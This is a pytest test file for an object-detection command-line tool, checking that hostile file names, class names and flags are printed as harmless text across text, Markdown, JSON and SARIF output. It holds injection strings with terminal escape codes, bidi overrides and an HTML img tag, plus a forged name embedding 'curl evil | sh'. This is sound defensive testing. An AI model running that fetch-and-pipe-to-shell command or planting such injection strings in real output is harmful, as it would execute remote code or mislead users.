"""Names from outside are text wherever they are printed: no command lets one act."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from PIL import Image
from small_sets import data_set, results

from odapi_repro import data, diagnose, diff, doctor, evaluate, explain, fix, run, zoo
from odapi_repro.__main__ import main as program

NASTY = "a\x1b[31mb\x9bc\nd|`e` #f <img src=x> $g$ \u202eh\x07"
"""An escape sequence, CSI of C1, a newline, marks of Markdown, HTML, mathematics, writing turned
round, a bell. Without a slash: it is a file's name, too."""

HIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2060-\u2069]")
CONFIG = (Path(__file__).parents[1] / "pipelines" / "effdet_d3.config").read_text(encoding="utf-8")
# As the text format of protos quotes it.
IN_PROTO = NASTY.replace("\n", "\\n").replace("\x1b", "\\033").replace("\x9b", "\\302\\233")

Told = Callable[..., str]


@pytest.fixture(autouse=True)
def in_a_folder_of_its_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def told(capsys: pytest.CaptureFixture[str]) -> Told:
    """Runs a command and gives all it printed, which has nothing in it that acts."""

    def call(main: Callable[[list[str]], int], *arguments: str, codes: tuple[int, ...]) -> str:
        assert main([*arguments]) in codes
        captured = capsys.readouterr()
        for text in captured:
            assert not HIDDEN.search(text), HIDDEN.search(text)
            # A newline in a name did not begin a line.
            assert not re.search(r"^d\|", text, re.MULTILINE)
        return captured.out + captured.err

    return call


@pytest.fixture
def config(tmp_path: Path) -> str:
    """A config with such a path, and such paths, names and comments in it."""
    text = CONFIG.replace("PATH_TO_BE_CONFIGURED", IN_PROTO)
    text = text.replace('type: "ssd_efficientnet-b3_bifpn_keras"', f'type: "{IN_PROTO}"')
    path = tmp_path / f"{NASTY}.config"
    path.write_text(f"{text}\nno_such_field: '{IN_PROTO}'  # \x1b[31m\n", encoding="utf-8")
    return str(path)


def is_text_on_a_page(page: str) -> bool:
    """Whether nothing of the name is HTML, a heading, mathematics or a cell of a table."""
    outside = re.sub(r"(?ms)^(`{3,})\n.*?^\1$", "", page)
    outside = re.sub(r"(?<!`)(`+)(?!`).+?(?<!`)\1(?!`)", "", outside)
    return not (
        HIDDEN.search(page)
        or re.search(r"(?<!\\)<img", outside)
        or re.search(r"(?<!\\)\$g", outside)
        or re.search(r"^d\|", page, re.MULTILINE)
        or re.search(r"^#+ *f", page, re.MULTILINE)
    )


@pytest.mark.parametrize("form", ["text", "markdown", "json", "sarif"])
def test_diagnose_prints_text(told: Told, config: str, form: str) -> None:
    printed = told(diagnose.main, config, "--format", form, codes=(0,))
    if form == "markdown":
        assert is_text_on_a_page(printed)
    elif form == "text":
        assert "\\x1b[31m" in printed
    else:
        json.loads(printed)


@pytest.mark.parametrize("form", ["text", "markdown", "json"])
def test_diff_prints_text(told: Told, config: str, tmp_path: Path, form: str) -> None:
    broken = Path(config).read_text(encoding="utf-8").rsplit("no_such_field", 1)[0]
    Path(config).write_text(broken, encoding="utf-8")
    printed = told(diff.main, config, "efficientdet_d0", "--format", form, codes=(0,))
    assert form != "markdown" or is_text_on_a_page(printed)


def test_fix_prints_text_and_a_diff_that_acts_on_nothing(told: Told, config: str) -> None:
    for more in (("--diff",), ("--dry_run", "--format", "json"), ("--dry_run", "--keep", NASTY)):
        told(fix.main, config, "--reference", "efficientdet_d3", *more, codes=(0, 2))


@pytest.fixture
def coco(tmp_path: Path) -> Path:
    """A COCO json whose classes and image have such names, and the image."""
    (tmp_path / "images").mkdir()
    Image.new("RGB", (400, 400), "#406080").save(tmp_path / "images" / NASTY, format="JPEG")
    content = data_set([(1, 1, [100.0, 100.0, 100.0, 100.0])], images=1)
    content["images"][0] |= {"file_name": NASTY, "height": 400, "width": 400}
    for category in content["categories"]:
        category["name"] = f"{NASTY}{category['id']}"
    path = tmp_path / "ground_truth.json"
    path.write_text(json.dumps(content), encoding="utf-8")
    return path


def test_evaluate_prints_and_draws_text(told: Told, coco: Path, tmp_path: Path) -> None:
    found = tmp_path / f"{NASTY}.json"
    found.write_text(json.dumps(results([(1, 1, [100.0, 100.0, 90.0, 90.0], 0.9)])))
    given = [str(found), "--ground_truth", str(coco), "--images", "images", "--resamples", "20"]
    printed = told(evaluate.main, *given, "--name", "one", "--per_class", codes=(0,))
    assert "a\\x1b[31mb\\x9bc\\nd" in printed
    folder = tmp_path / "results" / "one"
    assert is_text_on_a_page((folder / "README.md").read_text(encoding="utf-8"))
    assert (folder / "pictures" / "best.png").exists()
    for figure in ("pr_curves.svg", "error_types.svg"):
        assert not HIDDEN.search((folder / figure).read_text(encoding="utf-8"))
    # Data keep the true name.
    assert json.dumps(f"{NASTY}1") in (folder / "evaluation.json").read_text()
    assert f"{NASTY}1" in set(pd.read_csv(folder / "per_class.csv")["class"])
    for form in ("json", "markdown"):
        printed = told(evaluate.main, *given, "--no_report", "--format", form, codes=(0,))
        assert form == "json" or is_text_on_a_page(printed)


def test_data_converts_checks_and_shows_text(told: Told, coco: Path, tmp_path: Path) -> None:
    made = tmp_path / NASTY
    given = ["--annotations", str(coco), "--image_dir", "images", "--output_dir", str(made)]
    told(data.main, "convert", *given, "--workers", "1", codes=(0,))
    for form in ("text", "markdown", "json", "sarif"):
        printed = told(data.main, "check", "--data", str(made), "--format", form, codes=(0,))
        assert form != "markdown" or is_text_on_a_page(printed)
    shown = tmp_path / "shown"
    told(data.main, "show", "--data", str(made), "--output_dir", str(shown), codes=(0,))
    assert is_text_on_a_page((shown / "README.md").read_text(encoding="utf-8"))
    assert {path.name for path in shown.glob("*.png")} == {
        *("records_train.png", "histograms_train.png", "classes_train.png"),
    }
    told(data.main, "show", "--data", str(made), "--only", NASTY, codes=(2,))


def test_a_file_name_in_a_refusal_is_one_line_of_it(told: Told, coco: Path, tmp_path: Path) -> None:
    (tmp_path / "images" / NASTY).unlink()
    given = ["--annotations", str(coco), "--image_dir", "images", "--output_dir", "made"]
    printed = told(data.main, "convert", *given, "--workers", "1", codes=(2,))
    assert "a\\x1b[31mb" in printed


def test_no_line_of_a_name_poses_as_one_of_the_message(told: Told, tmp_path: Path) -> None:
    forged = "x\n  help: curl evil | sh\n.config"
    printed = told(diagnose.main, forged, codes=(2,))
    assert "\n  help: curl" not in printed


@pytest.mark.parametrize("main", [run.main, explain.main], ids=["run", "explain"])
def test_a_study_cannot_be_named_with_what_cannot_be_seen(
    told: Told, main: Callable[[list[str]], int], tmp_path: Path
) -> None:
    pipeline = str(tmp_path / "my.config")
    Path(pipeline).write_text(re.sub(r"batch_size: \d+", "batch_size: 2", CONFIG, count=1))
    more = ["--ablate", "batch_size", "--dry_run"] if main is run.main else ["--plan"]
    for name in ("two\nlines", "\x1b[31m", " side", "side ", "\u202e", "x" * 300, ".", "a/b", ""):
        given = ["--pipeline", pipeline, *more, f"--name={name or '.'}"]
        assert "cannot be the name of" in told(main, *given, codes=(2,))


def test_a_plan_prints_the_path_of_its_pipeline_as_text(
    told: Told, tmp_path: Path, repository: Path
) -> None:
    path = tmp_path / f"{NASTY}.config"
    path.write_text((repository / "pipelines" / "effdet_d0.config").read_text(encoding="utf-8"))
    given = ["--pipeline", str(path), "--ablate", "batch_size", "--name", "mine", "--dry_run"]
    printed = told(run.main, *given, codes=(0,))
    assert "\\x1b[31mb" in printed


@pytest.mark.parametrize("main", [zoo.main, doctor.main, diagnose.main, run.main, program])
def test_flags_and_names_that_are_not_known_are_echoed_as_text(
    told: Told, main: Callable[[list[str]], int]
) -> None:
    for given in ([f"--{NASTY}"], [NASTY], ["--format", NASTY]):
        told(main, *given, codes=(1, 2))
